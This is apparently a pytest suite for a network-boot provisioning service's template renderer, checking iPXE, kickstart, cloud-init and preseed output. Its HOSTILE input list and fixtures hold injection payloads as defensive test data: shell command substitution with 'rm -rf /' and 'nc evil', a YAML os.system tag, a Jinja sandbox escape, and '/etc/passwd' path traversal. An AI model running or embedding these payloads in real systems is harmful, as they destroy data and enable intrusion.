"""Templates: every one renders for a sample task and parses; hostile task
fields render inert; missing variables and sandbox escapes fail loudly."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
import yaml

from bootsvc.policy.script import CONFIG_TEMPLATES, INSTALL_TEMPLATES, TEMPLATES
from bootsvc.render import (
    Renderer,
    RenderError,
    build_context,
    filter_ipxe,
    filter_ipxe_text,
    filter_line,
    filter_shell,
)
from lpmos.catalog import Image
from lpmos.models import Server, Task

NODE = "http://10.77.0.1:8081"
TOKEN = "tok_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"

IMAGES = {
    "rhel": Image("rocky-9", "Rocky Linux 9", "rhel", "9", mode="installer",
                  kernel="https://dl.rockylinux.org/pub/rocky/9/BaseOS/x86_64/os/images/pxeboot/vmlinuz",
                  initrd="https://dl.rockylinux.org/pub/rocky/9/BaseOS/x86_64/os/images/pxeboot/initrd.img",
                  kernel_args="inst.repo=https://dl.rockylinux.org/pub/rocky/9/BaseOS/x86_64/os/"),
    "ubuntu": Image("ubuntu-24.04", "Ubuntu 24.04", "ubuntu", "24.04", mode="installer",
                    kernel="https://releases.ubuntu.com/24.04/netboot/amd64/linux",
                    initrd="https://releases.ubuntu.com/24.04/netboot/amd64/initrd",
                    kernel_args="url=https://releases.ubuntu.com/24.04/ubuntu-24.04-live-server-amd64.iso"),
    "debian": Image("debian-12", "Debian 12", "debian", "12", mode="installer",
                    kernel="https://deb.debian.org/debian/dists/bookworm/main/installer-amd64/current/images/netboot/debian-installer/amd64/linux",
                    initrd="https://deb.debian.org/debian/dists/bookworm/main/installer-amd64/current/images/netboot/debian-installer/amd64/initrd.gz"),
    "image": Image("lab-os", "Lab OS", "lab", "1", mode="image", disk_image="lab-os/disk.img",
                   sha256="a" * 64),
}
LIVE = Image("live", "LPMOS live", "lab", "1", mode="installer", kernel="live/vmlinuz",
             initrd="live/initrd.img", kernel_args="quiet")

HOSTILE = [
    "{{ 7*7 }}",
    "#!ipxe\nshell",
    "${net0/mac} ${root-path}",
    "line1\nline2\r\nline3",
    "key: value\n- item\n? [x] {y: z} &a *a !!python/object:os.system |",
    "$(reboot); `id` && rm -rf / | nc evil 1 > /dev/sda",
    "<script>alert(1)</script> &amp; \"quoted\" 'single'",
]


def make_task(**params: object) -> Task:
    base: dict[str, object] = {
        "hostname": "web-01", "ssh_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE test@x"],
        "timezone": "Asia/Shanghai", "root_device_hints": {"name": "/dev/sda", "serial": "S1"}}
    base.update(params)
    return Task(idc="dc1", sn="SN-0001", mac="52:54:00:12:34:56", os_type="Rocky Linux 9",
                status="booting", params=base, attempt=2).validate()


def ctx(kind: str, task: Task | None = None, **kw: object) -> dict[str, object]:
    server = Server(idc="dc1", sn="SN-0001", macs=["52:54:00:12:34:56"],
                    inventory={"system": {"vendor": "QEMU"}})
    defaults: dict[str, object] = dict(
        node_url=NODE, idc="dc1", node_name="node-a", decision="claim", reason="task approved",
        sn="SN-0001", mac="52:54:00:12:34:56", arch="x86_64", platform="pcbios",
        task=task or make_task(), server=server, image=IMAGES[kind], live=LIVE, token=TOKEN)
    defaults.update(kw)
    return build_context(**defaults)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer()


# --- every template renders and parses ---------------------------------------------------


@pytest.mark.parametrize("template", sorted({*TEMPLATES.values(), *INSTALL_TEMPLATES.values(),
                                              "ipxe/boot.ipxe.j2"}))
def test_ipxe_templates_render_as_ipxe_scripts(renderer: Renderer, template: str) -> None:
    kind = next((k for k, t in INSTALL_TEMPLATES.items() if t == template), "image")
    text = renderer.render(template, ctx(kind))
    assert text.startswith("#!ipxe\n")
    assert "{{" not in text and "{%" not in text
    for line in text.splitlines():
        assert "\r" not in line


def test_boot_ipxe_chains_with_machine_variables_and_backs_off(renderer: Renderer) -> None:
    text = renderer.render("ipxe/boot.ipxe.j2", ctx("image"))
    chain = next(line for line in text.splitlines() if line.startswith("chain "))
    for var in ("${net0/mac}", "${uuid:uristring}", "${serial:uristring}",
                "${buildarch:uristring}", "${platform:uristring}"):
        assert var in chain
    assert chain.startswith(f"chain --replace --autofree {NODE}/boot/${{net0/mac}}.ipxe?")
    assert "goto retry" in text and "sleep ${lpmos_delay}" in text
    assert "inc lpmos_delay" in text


def test_localboot_is_right_for_bios_and_uefi(renderer: Renderer) -> None:
    text = renderer.render("ipxe/localboot.ipxe.j2", ctx("image"))
    assert "iseq ${platform} efi && goto uefi" in text
    assert "sanboot --no-describe --drive 0x80" in text
    lines = [x for x in text.splitlines() if x and not x.startswith("#")]
    assert lines[lines.index(":uefi") + 1:] == ["exit"]
    assert lines.index("sanboot --no-describe --drive 0x80 ||") < lines.index(":uefi")


def test_install_scripts_point_at_tokened_configs(renderer: Renderer) -> None:
    rhel = renderer.render("ipxe/install-rhel.ipxe.j2", ctx("rhel"))
    assert f"inst.ks={NODE}/config/SN-0001/t/{TOKEN}/ks.cfg" in rhel
    assert "inst.repo=https://dl.rockylinux.org" in rhel
    ubuntu = renderer.render("ipxe/install-ubuntu.ipxe.j2", ctx("ubuntu"))
    assert f"ds=nocloud-net;s={NODE}/config/SN-0001/t/{TOKEN}/" in ubuntu
    debian = renderer.render("ipxe/install-debian.ipxe.j2", ctx("debian"))
    assert f"url={NODE}/config/SN-0001/t/{TOKEN}/preseed.cfg" in debian
    image = renderer.render("ipxe/install-image.ipxe.j2", ctx("image"))
    assert f"kernel --name vmlinuz {NODE}/images/live/vmlinuz" in image
    assert f"lpmos.server={NODE}" in image and "BOOTIF=01-52-54-00-12-34-56" in image


def test_kickstart_renders_and_validates_with_pykickstart(renderer: Renderer) -> None:
    text = renderer.render(CONFIG_TEMPLATES["rhel"]["ks.cfg"], ctx("rhel"))
    pk_parser = pytest.importorskip("pykickstart.parser")
    pk_version = pytest.importorskip("pykickstart.version")
    parser = pk_parser.KickstartParser(pk_version.makeVersion("RHEL9"))
    parser.readKickstartFromString(text)
    assert parser.handler.network.network[0].hostname == "web-01"
    assert "%onerror" in text and "%pre" in text and "%post" in text
    # the callbacks are well-formed JSON bodies aimed at this machine's callback
    curls = [line for line in text.splitlines() if line.startswith("curl ")]
    assert len(curls) == 4
    for line in curls:
        words = shlex.split(line)
        body = json.loads(words[words.index("-d") + 1])
        assert body["event"] == "installer" and isinstance(body["seq"], int)
        assert words[words.index("-d") + 2] == f"{NODE}/callback/SN-0001?token={TOKEN}"


def test_autoinstall_user_data_is_yaml_with_reporting_webhook(renderer: Renderer) -> None:
    text = renderer.render(CONFIG_TEMPLATES["ubuntu"]["user-data"], ctx("ubuntu"))
    assert text.startswith("#cloud-config\n")
    doc = yaml.safe_load(text)["autoinstall"]
    assert doc["version"] == 1
    assert doc["reporting"]["lpmos"] == {"type": "webhook", "level": "INFO",
                                         "endpoint": f"{NODE}/callback/SN-0001?token={TOKEN}"}
    assert doc["identity"]["hostname"] == "web-01"
    assert doc["storage"]["layout"]["match"] == {"serial": "S1"}
    assert any("succeeded" in c for c in doc["late-commands"])
    assert any("failed" in c for c in doc["error-commands"])
    meta = yaml.safe_load(renderer.render(CONFIG_TEMPLATES["ubuntu"]["meta-data"], ctx("ubuntu")))
    assert meta["instance-id"] == "lpmos-SN-0001-2"


def test_cloud_init_seed_installs_the_report_hook_with_token(renderer: Renderer) -> None:
    c = ctx("image")
    user = renderer.render(CONFIG_TEMPLATES["image"]["user-data"], c)
    assert user.startswith("#cloud-config\n")
    doc = yaml.safe_load(user)
    assert doc["runcmd"] == [["systemctl", "start", "--no-block", "lpmos-report.service"]]
    assert not any("firstboot" in str(cmd) for cmd in doc["runcmd"])   # cloud-init reports
    files = {f["path"]: f for f in doc["write_files"]}
    report = files["/etc/lpmos/report.json"]
    assert report["permissions"] == "0600"
    assert json.loads(report["content"]) == {"callback": f"{NODE}/callback/SN-0001",
                                             "token": TOKEN, "sn": "SN-0001", "seq": 2}
    templates = Path(renderer.templates_dir) / "cloud-init"
    assert files["/usr/local/sbin/lpmos-report"]["content"] == \
        (templates / "lpmos-report.py").read_text()
    assert files["/usr/local/sbin/lpmos-report"]["permissions"] == "0755"
    assert files["/etc/systemd/system/lpmos-report.service"]["content"] == \
        (templates / "lpmos-report.service").read_text()
    assert doc["reporting"] == {"lpmos": {"type": "webhook",
                                          "endpoint": f"{NODE}/callback/SN-0001?token={TOKEN}"}}
    assert doc["hostname"] == "web-01" and doc["preserve_hostname"] is False
    meta = yaml.safe_load(renderer.render(CONFIG_TEMPLATES["image"]["meta-data"], c))
    assert meta["lpmos"] == {"sn": "SN-0001", "idc": "dc1", "callback": f"{NODE}/callback/SN-0001",
                             "token": TOKEN}
    net = yaml.safe_load(renderer.render(CONFIG_TEMPLATES["image"]["network-config"], c))
    assert net["ethernets"]["eth0"] == {"match": {"macaddress": "52:54:00:12:34:56"},
                                        "set-name": "eth0", "dhcp4": True}


def test_preseed_is_one_directive_per_line(renderer: Renderer) -> None:
    text = renderer.render(CONFIG_TEMPLATES["debian"]["preseed.cfg"], ctx("debian"))
    for line in text.splitlines():
        if line and not line.startswith("#"):
            owner = line.split()[0]
            assert owner in ("d-i", "tasksel", "popularity-contest"), line
    assert "d-i preseed/late_command string " in text
    assert "d-i partman-auto/disk string /dev/sda" in text


# --- hostile task fields render inert -------------------------------------------------------


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_fields_in_yaml_come_back_as_the_same_data(renderer: Renderer, evil: str) -> None:
    task = make_task(timezone=evil, username=evil, ssh_keys=[evil])
    doc = yaml.safe_load(renderer.render("autoinstall/user-data.j2", ctx("ubuntu", task)))
    auto = doc["autoinstall"]
    assert auto["timezone"] == evil
    assert auto["identity"]["username"] == evil
    assert auto["ssh"]["authorized-keys"] == [evil]
    seed = yaml.safe_load(renderer.render("cloud-init/user-data.j2", ctx("image", task)))
    assert seed["ssh_authorized_keys"] == [evil]


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_fields_in_ipxe_are_inert(renderer: Renderer, evil: str) -> None:
    task = make_task(kernel_args=evil, hostname=evil)
    image = Image("rocky-9", evil.replace("\n", " "), "rhel", "9", mode="installer",
                  kernel="https://example.invalid/vmlinuz", initrd="https://example.invalid/initrd")
    for template, img in (("ipxe/install-rhel.ipxe.j2", image),
                          ("ipxe/install-debian.ipxe.j2", IMAGES["debian"]),
                          ("ipxe/wait.ipxe.j2", image)):
        clean = renderer.render(template, ctx("rhel", make_task(), image=img))
        text = renderer.render(template, ctx("rhel", task, image=img, reason=evil))
        assert len(text.splitlines()) == len(clean.splitlines())
        body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
        assert "{{" not in body and "49" not in body
        assert "${" not in body.replace("${platform}", "")
        assert "#!ipxe" not in body
        assert " || nc" not in body and "; reboot" not in body and "`" not in body


@pytest.mark.parametrize("evil", [e for e in HOSTILE if "\n" not in e])
def test_hostile_fields_in_kickstart_stay_one_shell_word(renderer: Renderer, evil: str) -> None:
    task = make_task(ssh_keys=[evil], keymap=evil, timezone=evil)
    text = renderer.render("kickstart/rhel9.ks.j2", ctx("rhel", task))
    line = next(x for x in text.splitlines() if x.startswith("sshkey "))
    assert shlex.split(line) == ["sshkey", "--username=root", evil]
    tz = next(x for x in text.splitlines() if x.startswith("timezone "))
    assert shlex.split(tz) == ["timezone", evil, "--utc"]


@pytest.mark.parametrize("template,kind", [("kickstart/rhel9.ks.j2", "rhel"),
                                           ("preseed/debian12.cfg.j2", "debian")])
def test_newline_in_a_single_line_slot_is_refused_naming_the_template(
        renderer: Renderer, template: str, kind: str) -> None:
    task = make_task(timezone="UTC\n%post\nrm -rf /\n%end")
    with pytest.raises(RenderError) as err:
        renderer.render(template, ctx(kind, task))
    assert template in str(err.value)
    assert "newline or control character" in str(err.value)


def test_hostname_from_task_must_be_a_hostname(renderer: Renderer) -> None:
    c = ctx("rhel", make_task(hostname="$(reboot)"))
    assert c["hostname"] == "sn-0001"


# --- failing loudly ----------------------------------------------------------------------------


@pytest.fixture
def scratch(tmp_path: Path) -> Renderer:
    (tmp_path / "t").mkdir()
    (tmp_path / "t" / "missing.j2").write_text("line one\nvalue {{ task.nothere }}\n")
    (tmp_path / "t" / "toplevel.j2").write_text("{{ nosuchvar }}\n")
    (tmp_path / "t" / "escape.j2").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}\n")
    (tmp_path / "t" / "mutate.j2").write_text("{{ task.params.ssh_keys.append('x') }}\n")
    return Renderer(tmp_path)


def test_missing_variable_names_template_and_variable(scratch: Renderer) -> None:
    with pytest.raises(RenderError) as err:
        scratch.render("t/toplevel.j2", {})
    assert "t/toplevel.j2" in str(err.value) and "nosuchvar" in str(err.value)
    with pytest.raises(RenderError) as err:
        scratch.render("t/missing.j2", {"task": {"sn": "x"}})
    assert "t/missing.j2 line 2" in str(err.value) and "nothere" in str(err.value)


def test_sandbox_refuses_escapes_and_mutation(scratch: Renderer) -> None:
    with pytest.raises(RenderError):
        scratch.render("t/escape.j2", {})
    with pytest.raises(RenderError) as err:
        scratch.render("t/mutate.j2", {"task": {"params": {"ssh_keys": []}}})
    assert "sandbox" in str(err.value) or "unsafe" in str(err.value)


def test_template_names_are_anchored(scratch: Renderer) -> None:
    for bad in ("../etc/passwd", "/etc/passwd", "t/../../x.j2", "T/Upper.j2"):
        with pytest.raises(RenderError):
            scratch.render(bad, {})


def test_filters() -> None:
    assert filter_ipxe("${a} #!ipxe {{x}}") == "%24%7Ba%7D%20%23%21ipxe%20%7B%7Bx%7D%7D"
    assert filter_ipxe("http://h:1/p?q") == "http://h:1/p%3Fq"
    assert filter_ipxe_text("a ${b}\nc") == "a ??b??c"
    assert filter_shell("it's") == "'it'\"'\"'s'"
    with pytest.raises(ValueError):
        filter_line("a\nb")
    with pytest.raises(ValueError):
        filter_line("a\x1bb")
    assert filter_line(None) == "" and filter_line(True) == "true"
